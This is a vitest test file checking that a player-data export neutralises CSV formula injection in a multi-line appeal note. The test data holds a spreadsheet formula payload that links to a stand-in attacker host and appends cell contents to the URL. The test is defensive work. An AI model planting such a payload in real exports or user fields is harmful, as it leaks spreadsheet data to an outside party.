import { unzipSync } from 'fflate'
import { expect, onTestFinished, test } from 'vitest'
import { newId } from '../../../id.ts'
import { moneyWorld } from '../../../testing/money-world.ts'
import { openDoors } from '../../../testing/open-doors.ts'
import { payoutDesk } from '../../../testing/payout-desk.ts'

test('what a player has written over several lines holds no formula in a file of the archive', async () => {
  const world = await moneyWorld()
  onTestFinished(() => world.close())
  const doors = await openDoors(world)
  onTestFinished(() => doors.close())
  const staff = await doors.staff(await payoutDesk(() => world).member('manager', 'Noy'))
  const { playerId } = await world.newPlayer()
  const { db, clock } = world.context
  const { promotion_id } = await db
    .selectFrom('promotions')
    .select('promotion_id')
    .limit(1)
    .executeTakeFirstOrThrow()
  const note = 'I am the only one here.\n=HYPERLINK("https://evil.example?"&A1,"terms")'
  await db
    .insertInto('claim_appeals')
    .values({
      agency_id: world.agency.agency_id,
      appeal_id: newId(clock()),
      player_id: playerId,
      promotion_id,
      state: 'OPEN',
      note,
      asked_at: clock(),
    })
    .execute()
  const { bytes } = await staff.get(`/v2/agency/players/${playerId}/export`)
  const text = (name: string) => Buffer.from(unzipSync(bytes)[name]!).toString()
  expect(JSON.parse(text('appeals.json'))).toMatchObject([{ note }])
  // Where a semicolon parts the cells, the quote stands within the first one and each line is a row.
  expect(text('appeals.csv')).toContain(`here.\n'=HYPERLINK`)
})
